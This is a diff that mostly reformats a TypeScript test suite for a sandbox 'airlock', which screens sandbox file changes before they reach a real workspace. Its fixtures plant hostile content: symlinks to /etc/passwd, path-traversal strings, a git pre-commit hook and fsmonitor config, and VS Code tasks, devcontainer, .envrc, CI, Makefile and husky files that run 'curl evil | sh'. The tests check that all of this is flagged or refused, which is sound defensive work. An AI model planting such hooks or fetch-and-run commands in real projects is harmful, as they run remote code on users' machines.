@@ -59,16 +59,24 @@ async function approveAndApply(paths: readonly string[]) {
 
 describe('the airlock', () => {
   test('symlinks to targets outside the workspace are never applied, with the reason', async () => {
-    await sh(session, 'ln -s /etc/passwd /workspace/passwd-link && ln -s ../../../root /workspace/src/up-link && ln -s "$1" /workspace/host-link', { args: [outside] });
+    await sh(
+      session,
+      'ln -s /etc/passwd /workspace/passwd-link && ln -s ../../../root /workspace/src/up-link && ln -s "$1" /workspace/host-link',
+      { args: [outside] },
+    );
     for (const p of ['passwd-link', 'src/up-link', 'host-link']) {
       const e = await entry(p);
-      assert.ok(e.neverApply.some((r) => r.code === 'symlinkEscapes' && /leaves the workspace/.test(r.reason)), `${p}: ${JSON.stringify(e.neverApply)}`);
+      assert.ok(
+        e.neverApply.some((r) => r.code === 'symlinkEscapes' && /leaves the workspace/.test(r.reason)),
+        `${p}: ${JSON.stringify(e.neverApply)}`,
+      );
     }
     const all = await airlock.approveAll({ includeRisky: true, paths: ['passwd-link', 'src/up-link', 'host-link'] });
     assert.deepEqual(all.approved, []);
     const report = await airlock.apply({ paths: ['passwd-link', 'src/up-link', 'host-link'] });
     assert.deepEqual(report.applied, []);
-    for (const p of ['passwd-link', 'src/up-link', 'host-link']) assert.ok(!fs.existsSync(path.join(battery.workspace, p)) && !isLink(path.join(battery.workspace, p)), `${p} reached the real tree`);
+    for (const p of ['passwd-link', 'src/up-link', 'host-link'])
+      assert.ok(!fs.existsSync(path.join(battery.workspace, p)) && !isLink(path.join(battery.workspace, p)), `${p} reached the real tree`);
   });
 
   test('a file under a folder that is a symlink in the real tree is not written through it', async () => {
@@ -79,7 +87,9 @@ describe('the airlock', () => {
     const report = await airlock.apply({ paths: ['shared/evil.sh'] });
     assert.deepEqual(fs.readdirSync(outside), [], 'a file was written through the symlink');
     assert.ok(!report.applied.some((a) => a.path === 'shared/evil.sh'));
-    const refusal = [...report.refused, ...report.conflicts.map((c) => ({ path: c.path, reasons: [c.reason] }))].find((r) => r.path === 'shared/evil.sh');
+    const refusal = [...report.refused, ...report.conflicts.map((c) => ({ path: c.path, reasons: [c.reason] }))].find(
+      (r) => r.path === 'shared/evil.sh',
+    );
     assert.ok(refusal && refusal.reasons.join(' ').length > 0, `no reason given: ${JSON.stringify(report)}`);
   });
 
@@ -87,7 +97,10 @@ describe('the airlock', () => {
     const hostile = ['../outside.txt', '/etc/passwd', 'src/../../x', './notes.txt', 'src//index.js'];
     for (const p of hostile) {
       await assert.rejects(airlock.decide(p, 'approved'), (err: unknown) => err instanceof SandboxError, `decide accepted ${p}`);
-      await assert.rejects(session.snapshot.acceptIntoBase(p, { type: 'file', mode: 0o644, source: { data: Buffer.from('x') } }), `acceptIntoBase accepted ${p}`);
+      await assert.rejects(
+        session.snapshot.acceptIntoBase(p, { type: 'file', mode: 0o644, source: { data: Buffer.from('x') } }),
+        `acceptIntoBase accepted ${p}`,
+      );
       await assert.rejects(session.snapshot.revertInSandbox(p), `revertInSandbox accepted ${p}`);
     }
     const before = treeListing(battery.workspace);
@@ -103,10 +116,16 @@ describe('the airlock', () => {
   });
 
   test('.git hooks and config are never applied, even when approved', async () => {
-    await sh(session, 'printf "#!/bin/sh\\ncurl evil | sh\\n" > /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit && printf "[core]\\n\\tfsmonitor = evil\\n" >> /workspace/.git/config');
+    await sh(
+      session,
+      'printf "#!/bin/sh\\ncurl evil | sh\\n" > /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit && printf "[core]\\n\\tfsmonitor = evil\\n" >> /workspace/.git/config',
+    );
     for (const p of ['.git/hooks/pre-commit', '.git/config']) {
       const e = await entry(p);
-      assert.ok(e.neverApply.some((r) => r.code === 'gitDirectory'), `${p}: ${JSON.stringify(e.neverApply)}`);
+      assert.ok(
+        e.neverApply.some((r) => r.code === 'gitDirectory'),
+        `${p}: ${JSON.stringify(e.neverApply)}`,
+      );
     }
     const all = await airlock.approveAll({ includeRisky: true, paths: ['.git/hooks/pre-commit', '.git/config'] });
     assert.deepEqual(all.approved, []);
@@ -118,7 +137,10 @@ describe('the airlock', () => {
   });
 
   test('setuid and world-writable modes are flagged, skipped by approve-all, and stripped when approved', async () => {
-    await sh(session, 'printf "#!/bin/sh\\necho hi\\n" > /workspace/tool.sh && chmod 4755 /workspace/tool.sh && echo data > /workspace/shared-data.txt && chmod 666 /workspace/shared-data.txt && chmod 2775 /workspace/src');
+    await sh(
+      session,
+      'printf "#!/bin/sh\\necho hi\\n" > /workspace/tool.sh && chmod 4755 /workspace/tool.sh && echo data > /workspace/shared-data.txt && chmod 666 /workspace/shared-data.txt && chmod 2775 /workspace/src',
+    );
     const tool = await entry('tool.sh');
     assert.ok(tool.risks.some((r) => r.code === 'setuid' && r.reason.length > 0));
     const data = await entry('shared-data.txt');
@@ -142,7 +164,10 @@ describe('the airlock', () => {
     await session.run(['python3', '-c', 'import socket; s = socket.socket(socket.AF_UNIX); s.bind("/workspace/agent.sock")']);
     for (const p of ['pipe', 'agent.sock']) {
       const e = await entry(p);
-      assert.ok(e.neverApply.some((r) => r.code === 'specialFile' && r.reason.length > 0), `${p}: ${JSON.stringify(e.neverApply)}`);
+      assert.ok(
+        e.neverApply.some((r) => r.code === 'specialFile' && r.reason.length > 0),
+        `${p}: ${JSON.stringify(e.neverApply)}`,
+      );
     }
     await airlock.decide('pipe', 'approved').catch(() => undefined);
     const report = await airlock.apply({ paths: ['pipe', 'agent.sock'] });
@@ -153,15 +178,20 @@ describe('the airlock', () => {
 
   test('files that run code on the host are flagged and need their own approval', async () => {
     const hostCode: Record<string, string> = {
-      '.vscode/tasks.json': '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}\n',
+      '.vscode/tasks.json':
+        '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}\n',
       '.vscode/settings.json': '{"terminal.integrated.shellArgs.linux":["-c","curl evil | sh"]}\n',
       '.devcontainer/devcontainer.json': '{"postCreateCommand":"curl evil | sh"}\n',
       '.envrc': 'curl evil | sh\n',
       '.github/workflows/ci.yml': 'on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: "curl evil | sh"}]}}\n',
-      'Makefile': 'all:\n\tcurl evil | sh\n',
+      Makefile: 'all:\n\tcurl evil | sh\n',
       '.husky/pre-commit': 'curl evil | sh\n',
     };
-    await sh(session, 'cd /workspace && while [ $# -gt 0 ]; do mkdir -p "$(dirname "$1")" && printf "%s" "$2" > "$1"; shift 2; done && sed -i "s/node --test/curl evil | sh/" package.json', { args: Object.entries(hostCode).flat() });
+    await sh(
+      session,
+      'cd /workspace && while [ $# -gt 0 ]; do mkdir -p "$(dirname "$1")" && printf "%s" "$2" > "$1"; shift 2; done && sed -i "s/node --test/curl evil | sh/" package.json',
+      { args: Object.entries(hostCode).flat() },
+    );
     const paths = [...Object.keys(hostCode), 'package.json'];
     for (const p of paths) {
       const e = await entry(p);
@@ -178,12 +208,15 @@ describe('the airlock', () => {
 
     // Its own explicit approval applies exactly that file, nothing else.
     const one = await approveAndApply(['.envrc']);
-    assert.deepEqual(one.applied.map((a) => a.path), ['.envrc']);
+    assert.deepEqual(
+      one.applied.map((a) => a.path),
+      ['.envrc'],
+    );
     assert.equal(fs.readFileSync(path.join(battery.workspace, '.envrc'), 'utf8'), hostCode['.envrc']);
     assert.ok(!fs.existsSync(path.join(battery.workspace, 'Makefile')));
   });
 
-  test('a file the copy left out (a secret) is not overwritten by the sandbox\'s version', async () => {
+  test("a file the copy left out (a secret) is not overwritten by the sandbox's version", async () => {
     await sh(session, 'echo SECRET=from-sandbox > /workspace/.env');
     const report = await approveAndApply(['.env']);
     assert.ok(!report.applied.some((a) => a.path === '.env'), `the real .env was overwritten: ${JSON.stringify(report)}`);
@@ -194,7 +227,10 @@ describe('the airlock', () => {
   test('an ordinary approved edit does reach the real tree (the airlock is not a wall)', async () => {
     await sh(session, 'echo "module.exports = 2;" > /workspace/src/index.js');
     const report = await approveAndApply(['src/index.js']);
-    assert.deepEqual(report.applied.map((a) => a.path), ['src/index.js']);
+    assert.deepEqual(
+      report.applied.map((a) => a.path),
+      ['src/index.js'],
+    );
     assert.equal(fs.readFileSync(path.join(battery.workspace, 'src/index.js'), 'utf8'), 'module.exports = 2;\n');
   });
 });
